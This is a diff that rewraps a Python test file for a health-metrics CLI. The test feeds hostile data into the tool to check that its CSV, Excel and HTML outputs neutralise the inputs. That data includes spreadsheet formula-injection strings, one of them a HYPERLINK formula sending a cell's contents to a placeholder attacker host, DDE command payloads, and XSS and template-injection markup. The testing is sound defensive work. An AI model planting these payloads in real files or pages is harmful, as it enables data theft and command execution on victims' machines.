@@ -24,15 +24,29 @@ import pytest
 
 from nhvmetrics.cli import main
 
-FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"klicka")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "=1+1"]
-MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "{% raw %}x", "it's \"quoted\""]
+FORMULAS = [
+    '=HYPERLINK("http://evil.invalid/?x="&A1,"klicka")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+]
+MARKUP = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "{{ 7*7 }}",
+    "{% raw %}x",
+    'it\'s "quoted"',
+]
 HOSTILE = FORMULAS + MARKUP
 
 
 def run(args: list[str]) -> int:
     """Run a command in-process, output swallowed (module-scoped fixtures have no capsys)."""
-    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(io.StringIO()) as err:
+    with (
+        contextlib.redirect_stdout(io.StringIO()),
+        contextlib.redirect_stderr(io.StringIO()) as err,
+    ):
         try:
             main(args)
             return 0
@@ -55,13 +69,17 @@ def outputs(tmp_path_factory) -> Path:
     df = df.with_columns(
         pl.when(pl.int_range(pl.len()) < 6 * n)
         .then(pl.Series([HOSTILE[i % n] for i in range(df.height)]))
-        .otherwise(pl.col("unit")).alias("unit"),
+        .otherwise(pl.col("unit"))
+        .alias("unit"),
         pl.when(pl.int_range(pl.len()) < n)
         .then(pl.Series([h + f"#{i}" for i, h in enumerate(HOSTILE)] + [""] * (df.height - n)))
-        .otherwise(pl.col("case_id")).alias("case_id"),
+        .otherwise(pl.col("case_id"))
+        .alias("case_id"),
     )
     # a few invalid rows so the findings and quarantine files hold hostile text too
-    df = df.with_columns(pl.when(pl.int_range(pl.len()) < n).then(pl.lit("X")).otherwise(pl.col("sex")).alias("sex"))
+    df = df.with_columns(
+        pl.when(pl.int_range(pl.len()) < n).then(pl.lit("X")).otherwise(pl.col("sex")).alias("sex")
+    )
     export = folder / "acc_cases.csv"
     df.write_csv(export)
     out = folder / "out"
@@ -71,13 +89,54 @@ def outputs(tmp_path_factory) -> Path:
 
 def _run_all(export: Path, out: Path) -> None:
     common = ["--area", "acc", "--extract-date", "2026-02-15"]
-    assert run(["validate", str(export), *common, "--errors", str(out / "findings.csv"),
-                "--quarantine", str(out / "quarantine.csv")]) == 1
+    assert (
+        run(
+            [
+                "validate",
+                str(export),
+                *common,
+                "--errors",
+                str(out / "findings.csv"),
+                "--quarantine",
+                str(out / "quarantine.csv"),
+            ]
+        )
+        == 1
+    )
     assert run(["validate", str(export), *common, "--errors", str(out / "findings.json")]) == 1
     for suffix in ("csv", "xlsx", "json"):
-        assert run(["compute", str(export), *common, "--year", "2025", "-o", str(out / f"ind.{suffix}")]) == 0
-    assert run(["report", str(export), *common, "--year", "2025", "--unit", HOSTILE[0],
-                "-o", str(out / "r.html"), "--xlsx", str(out / "r.xlsx")]) == 0
+        assert (
+            run(
+                [
+                    "compute",
+                    str(export),
+                    *common,
+                    "--year",
+                    "2025",
+                    "-o",
+                    str(out / f"ind.{suffix}"),
+                ]
+            )
+            == 0
+        )
+    assert (
+        run(
+            [
+                "report",
+                str(export),
+                *common,
+                "--year",
+                "2025",
+                "--unit",
+                HOSTILE[0],
+                "-o",
+                str(out / "r.html"),
+                "--xlsx",
+                str(out / "r.xlsx"),
+            ]
+        )
+        == 0
+    )
 
 
 @pytest.fixture(scope="module")
@@ -108,8 +167,14 @@ def test_workbooks_hold_no_formula(written: Path) -> None:
                                 assert c.data_type == "s"
                                 if c.value.startswith(h[0]):
                                     # shown as text: a quote prefix or a leading apostrophe
-                                    assert c.quotePrefix or c.value.startswith("'"), (name, c.coordinate, c.value)
-    assert seen == set(FORMULAS), f"the test data did not reach the workbooks: {set(FORMULAS) - seen}"
+                                    assert c.quotePrefix or c.value.startswith("'"), (
+                                        name,
+                                        c.coordinate,
+                                        c.value,
+                                    )
+    assert seen == set(FORMULAS), (
+        f"the test data did not reach the workbooks: {set(FORMULAS) - seen}"
+    )
 
 
 @pytest.mark.parametrize("name", ["findings.csv", "quarantine.csv", "ind.csv"])
@@ -138,8 +203,13 @@ def test_html_escapes_data_and_allows_nothing_external(written: Path) -> None:
     assert policy["default-src"] == ["'none'"]
     assert "script-src" not in policy  # scripts fall back to 'none'
     for directive, sources in policy.items():
-        assert not any(s.startswith(("http", "//", "*")) or s == "https:" for s in sources), (directive, sources)
-    assert html.count("<script") == 0 and "onerror=alert" not in html.replace("onerror=alert(1)&gt;", "")
+        assert not any(s.startswith(("http", "//", "*")) or s == "https:" for s in sources), (
+            directive,
+            sources,
+        )
+    assert html.count("<script") == 0 and "onerror=alert" not in html.replace(
+        "onerror=alert(1)&gt;", ""
+    )
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
     assert "<img src=x" not in html and "<script>alert" not in html
     # text reaches the page only escaped, and template syntax in the data is never run
